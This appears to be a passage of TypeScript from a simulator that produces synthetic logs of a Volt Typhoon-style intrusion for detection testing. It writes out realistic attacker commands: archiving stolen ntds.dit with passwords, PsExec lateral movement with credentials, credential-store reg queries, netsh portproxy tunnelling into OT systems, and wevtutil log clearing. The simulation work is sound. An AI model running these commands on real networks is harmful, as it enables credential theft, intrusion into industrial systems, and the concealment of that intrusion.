        this.rec.createFile(dc, t + 3000, cmd, i === 0 ? "C:\\Windows\\Temp\\ntds.dit" : "C:\\Windows\\Temp\\SYSTEM");
      }
    });
    return t;
  }

  private archive(start: number, shell: Process): number {
    const dc = this.dc;
    const folder = this.ifmFolder;
    const password = this.rng.hex(8);
    const variant = this.rng.pick(["rar", "7z", "makecab"] as const);
    let commandLine: string;
    let tool: string;
    let output: string;
    let original: string;
    if (variant === "rar") {
      tool = "C:\\Windows\\Temp\\ronf.exe";
      original = "C:\\Program Files\\WinRAR\\Rar.exe";
      output = `C:\\Windows\\Temp\\DMBC${this.rng.hex(4).toUpperCase()}.tmp`;
      commandLine = `${tool} a -hp${password} ${output} ${folder}`;
    } else if (variant === "7z") {
      tool = "C:\\PerfLogs\\7z.exe";
      original = "C:\\Program Files\\7-Zip\\7z.exe";
      output = "C:\\PerfLogs\\perf.7z";
      commandLine = `${tool} a -v200m -p${password} ${output} ${folder}\\*`;
    } else {
      tool = "C:\\Windows\\System32\\makecab.exe";
      original = tool;
      output = "C:\\Users\\Public\\sy.cab";
      commandLine = `makecab ${folder}\\registry\\SYSTEM ${output}`;
    }
    this.define(
      "archive-staging",
      "T1560.001",
      "collection",
      dc,
      `Stolen credential material archived for exfiltration on ${dc.name}: ${commandLine}${variant === "rar" ? " (ronf.exe is a renamed rar.exe, AA24)" : ""}.`,
    );
    return this.as(["archive-staging"], () => {
      let t = start;
      const state = this.rec.state(dc);
      if (tool !== "C:\\Windows\\System32\\makecab.exe") {
        const rdpclip = state.process(
          t,
          "C:\\Windows\\System32\\rdpclip.exe",
          "rdpclip",
          shell.session,
          "C:\\Windows\\system32\\",
        );
        this.rec.createFile(dc, t, rdpclip, tool);
        t += this.jitter(30, 120);
      }
      const proc = this.rec.spawn(dc, t, shell, tool, commandLine, { info: imageInfo(original, dc.server) });
      this.rec.createFile(dc, t + 5000, proc, variant === "7z" ? `${output}.001` : output);
      return t + 6000;
    });
  }

  // ---- toward OT ---------------------------------------------------------------------------------------------

  private psexecToJump(start: number, shell: Process): number {
    const dc = this.dc;
    const jump = this.jump;
    const dcState = this.rec.state(dc);
    const jumpState = this.rec.state(jump);
    const admin = this.admin;
    const commandLine = `C:\\Users\\Public\\PsExec64.exe -accepteula \\\\${jump.name} -u ${qualifiedName(admin)} -p ${this.password} cmd.exe`;
    this.define(
      "psexec-to-jump-server",
      "T1569.002",
      "lateral-movement",
      jump,
      `PsExec from ${dc.name} to the jump server ${jump.name} at the IT/OT boundary: ${commandLine.replace(this.password, "…")}; on the target ADMIN$ (5140, 5145 PSEXESVC.exe), service PSEXESVC installed (7045), cmd.exe under PSEXESVC.exe.`,
    );
    const eng = this.rng.pick(this.net.accountsOf.engineer);
    const c8 = [
      "reg query hkcu\\software\\SimonTatham\\putty\\session",
      "reg query hklm\\software\\realvnc",
      "reg query hklm\\software\\realvnc\\vncserver",
      "reg query hklm\\software\\OpenSSH",
      "reg query hklm\\software\\OpenSSH\\Agent",
    ];
    this.define(
      "credential-store-discovery",
      "T1552",
      "credential-access",
      jump,
      `Credential stores probed on ${jump.name} (C8): ${c8.join(", ")}, and the known_hosts of ${eng.sam}.`,
    );
    let t = start;
    const remoteShell = this.as(["psexec-to-jump-server"], () => {
      const rdpclip = dcState.process(
        t,
        "C:\\Windows\\System32\\rdpclip.exe",
        "rdpclip",
        shell.session,
        "C:\\Windows\\system32\\",
      );
      this.rec.createFile(dc, t, rdpclip, "C:\\Users\\Public\\PsExec64.exe");
      t += this.jitter(30, 120);
      const psexec = this.rec.spawn(dc, t, shell, "C:\\Users\\Public\\PsExec64.exe", commandLine);
      this.rec.setRegistryValue(
        dc,
        t + 100,
        psexec,
        `HKU\\${admin.sid}\\Software\\Sysinternals\\PsExec\\EulaAccepted`,
        "DWORD (0x00000001)",
      );
      this.rec.explicitCredentials(dc, t + 200, psexec, admin, {
        name: jump.name,
        info: jump.name,
        ip: jump.ip,
        port: 445,
      });
      this.rec.connectHosts(dc, t + 250, psexec, jump, 445, jumpState.kernel);
      const session = this.rec.logon(jump, t + 400, {
        principal: principalOf(admin),
        type: 3,
        source: this.source(dc),
        auth: "Kerberos",
        integrity: "High",
      });
      this.rec.shareAccess(jump, t + 600, session, {
        share: "\\\\*\\ADMIN$",
        localPath: "\\??\\C:\\Windows",
        source: this.source(dc),
        files: ["PSEXESVC.exe"],
        accessMask: 0x2,
      });
      this.rec.createFile(jump, t + 900, jumpState.kernel, "C:\\Windows\\PSEXESVC.exe");
      this.rec.serviceInstalled(jump, t + 1200, principalOf(admin), {
        name: "PSEXESVC",
        imagePath: "%SystemRoot%\\PSEXESVC.exe",
        startType: "demand start",
        account: "LocalSystem",
      });
      const svc = this.rec.spawn(
        jump,
        t + 1400,
        jumpState.services,
        "C:\\Windows\\PSEXESVC.exe",
        "C:\\Windows\\PSEXESVC.exe",
        {
          session: jumpState.system,
          currentDirectory: "C:\\Windows\\system32\\",
        },
      );
      const pipe = `PSEXESVC-${dc.name}-${psexec.pid}`;
      this.rec.shareAccess(jump, t + 1600, session, {
        share: "\\\\*\\IPC$",
        localPath: "",
        source: this.source(dc),
        files: [`${pipe}-stdin`, `${pipe}-stdout`, `${pipe}-stderr`],
        accessMask: 0x12019f,
      });
      const userSession = jumpState.logon(principalOf(admin), "High", 0, t + 1700);
      const cmd = this.rec.spawn(jump, t + 1800, svc, "C:\\Windows\\System32\\cmd.exe", '"cmd.exe" ', {
        session: userSession,
        currentDirectory: "C:\\Windows\\system32\\",
      });
      t += 1800;
      for (const command of ["whoami", "ipconfig /all"]) {
        t += this.jitter(10, 40);
        this.typed(jump, t, cmd, command);
      }
      return cmd;
    });
    this.as(["credential-store-discovery"], () => {
      for (const command of c8) {
        t += this.jitter(10, 50);
        this.typed(jump, t, remoteShell, command);
      }
      t += this.jitter(10, 50);
      this.run(jump, t, remoteShell, `cmd.exe /c dir C:\\Users\\${eng.sam}\\.ssh\\known_hosts`);
    });
    t = this.portProxy(t + this.jitter(60, 300), remoteShell);
    return t;
  }

  private portProxy(start: number, shell: Process): number {
    const jump = this.jump;
    const state = this.rec.state(jump);
    const net = this.net;
    const historian = net.roles.historian[0] ?? net.roles.hmi[0];
    const variant = this.rng.chance(0.5)
      ? { listen: 9999, connectIp: this.ews.ip, connectPort: 8443, peer: this.ews }
      : { listen: 50100, connectIp: historian.ip, connectPort: 1433, peer: historian };
    const line =
      variant.listen === 9999
        ? `netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=9999 connectaddress=${variant.connectIp} connectport=8443 protocol=tcp`
        : `netsh interface portproxy add v4tov4 listenport=50100 listenaddress=0.0.0.0 connectport=1433 connectaddress=${variant.connectIp}`;
    const commandLine = variant.listen === 9999 ? `cmd.exe /c "${line}"` : `cmd.exe /c ${line}`;
    const key = `HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\0.0.0.0/${variant.listen}`;
    this.define(
      "portproxy-add",
      "T1090.001",
      "command-and-control",
      jump,
      `Port proxy on the jump server ${jump.name} (C9): ${commandLine}; registry value ${key} = ${variant.connectIp}/${variant.connectPort} (Sysmon 13).`,
    );
    this.define(
      "portproxy-traffic",
      "T1090.001",
      "command-and-control",
      jump,
      `Traffic through the port proxy: connections from ${this.entry.name} to ${jump.name}:${variant.listen} relayed by the IP Helper service to ${variant.peer.name} ${variant.connectIp}:${variant.connectPort} (Sysmon 3).`,
    );
    const t = start;
    this.as(["portproxy-add"], () => {
      const cmd = this.run(jump, t, shell, commandLine);
      const netsh = this.run(jump, t + 50, cmd, `netsh  ${line.slice("netsh ".length)}`);
      this.rec.setRegistryValue(jump, t + 150, netsh, key, `${variant.connectIp}/${variant.connectPort}`);
    });
    const iphlpsvc = state.process(
      t,
      "C:\\Windows\\System32\\svchost.exe",
      "C:\\Windows\\System32\\svchost.exe -k NetSvcs -p -s iphlpsvc",
      state.system,
      "C:\\Windows\\system32\\",
    );
    this.as(["portproxy-traffic"], () => {
      let u = t + this.jitter(120, 600);
      const count = this.rng.int(3, 6);
      for (let i = 0; i < count; i++) {
        const inbound = this.rec.ephemeralPort();
        this.rec.connect(jump, u, iphlpsvc, {
          initiated: false,
          sourceIp: this.entry.ip,
          sourceHostname: this.entry.fqdn,
          sourcePort: inbound,
          destinationIp: jump.ip,
          destinationHostname: jump.fqdn,
          destinationPort: variant.listen,
        });
        this.rec.connect(jump, u + 50, iphlpsvc, {
          initiated: true,
          sourceIp: jump.ip,
          sourceHostname: jump.fqdn,
          sourcePort: this.rec.ephemeralPort(),
          destinationIp: variant.connectIp,
          destinationHostname: variant.peer.fqdn,
          destinationPort: variant.connectPort,
        });
        u += this.jitter(300, 1800);
      }
    });
    return t + this.jitter(60, 180);
  }

  private rdpToJump(time: number, dcShell: Process): { shell: Process; next: number } {
    this.define(
      "rdp-to-jump-server",
      "T1021.001",
      "lateral-movement",
      this.jump,
      `Remote Desktop from the domain controller ${this.dc.name} to the jump server ${this.jump.name} (IT to OT-DMZ) as ${qualifiedName(this.admin)}.`,
    );
    return this.as(["rdp-to-jump-server"], () => {
      const { shell } = this.rdp(this.dc, time, dcShell, this.jump, this.admin);
      return { shell, next: time + 2 * MINUTE };
    });
  }

  private rdpToEws(time: number, jumpShell: Process): number {
    const ews = this.ews;
    this.define(
      "rdp-to-ot-workstation",
      "T1021.001",
      "lateral-movement",
      ews,
      `Remote Desktop from the jump server ${this.jump.name} into the OT zone: engineering workstation ${ews.name} as domain admin ${qualifiedName(this.admin)} (credentials from NTDS.dit work on domain-joined OT assets, AA24).`,
    );
    const projects = "C:\\Users\\Public\\Documents\\Studio 5000\\Projects";
    this.define(
      "ot-workstation-discovery",
      "T1083",
      "discovery",
      ews,
      `Discovery on ${ews.name}: whoami, ipconfig /all, cmd.exe /c dir /s "${projects}" > C:\\Users\\Public\\p.txt (controller project files).`,
    );
    const { shell } = this.as(["rdp-to-ot-workstation"], () => this.rdp(this.jump, time, jumpShell, ews, this.admin));
    let t = time + 2 * MINUTE;
    this.as(["ot-workstation-discovery"], () => {
      for (const command of ["whoami", "ipconfig /all"]) {
        t += this.jitter(10, 40);
        this.typed(ews, t, shell, command);
      }
      t += this.jitter(20, 60);
      const dir = this.run(ews, t, shell, `cmd.exe /c dir /s "${projects}" > C:\\Users\\Public\\p.txt`);
      this.rec.createFile(ews, t + 300, dir, "C:\\Users\\Public\\p.txt");
    });
    return t;
  }

  // ---- defense evasion ---------------------------------------------------------------------------------------

  private clearLogs(start: number, shell: Process): number {
    const dc = this.dc;
    const logs = ["System", "Security", "Windows PowerShell"];
    this.define(
      "log-clearing",
      "T1070.001",
      "defense-evasion",
      dc,
      `Event logs cleared on ${dc.name} with wevtutil cl System, wevtutil cl Security, wevtutil cl "Windows PowerShell" (System 104, Security 1102).`,
    );
    let t = start;
    this.as(["log-clearing"], () => {
      for (const log of logs) {
        t += this.jitter(5, 30);
        const proc = this.typed(dc, t, shell, `wevtutil cl ${log.includes(" ") ? `"${log}"` : log}`);
        this.rec.logCleared(dc, t + 150, proc.session, log);
      }
    });
    return t;
  }
}

/**
 * Plans the intrusion: its records (in time order), its steps and what it compromised. It starts between 10 % and
 * 40 % into the window and leaves the FRP tunnel calling back until the window ends. Uses (and advances) the
 * recorder's host state, so it runs before the background is generated.
 */
export function planVoltTyphoon(
  recorder: Recorder,
  random: Random,
  window: { start: number; end: number },
): IntrusionPlan {
  const rng = random.fork("volt-typhoon");
  const span = window.end - window.start;
  const latest = Math.max(window.start + 0.1 * span, window.end - 12 * HOUR);
  const start = rng.real(window.start + 0.1 * span, Math.min(window.start + 0.4 * span, latest));
  const intrusion = new Intrusion(recorder, rng);
  const savedSink = recorder.sink;
  const records: SimRecord[] = [];
  recorder.sink = records;
  try {
    const outcome = intrusion.plan(start);
    intrusion.callbacks(window.end);
    records.sort(compareRecords);
    const net = recorder.network;
    return {
      steps: intrusion.stepDefinitions(),
      records,
      compromisedHosts: outcome.compromisedHosts,
      compromisedAccounts: outcome.compromisedAccounts,
      externalAddresses: [...net.intruder.sohoRouters, net.intruder.vps],
      start: records[0]?.time ?? start,
      end: outcome.end,
    };
  } finally {
    recorder.sink = savedSink;
  }
}
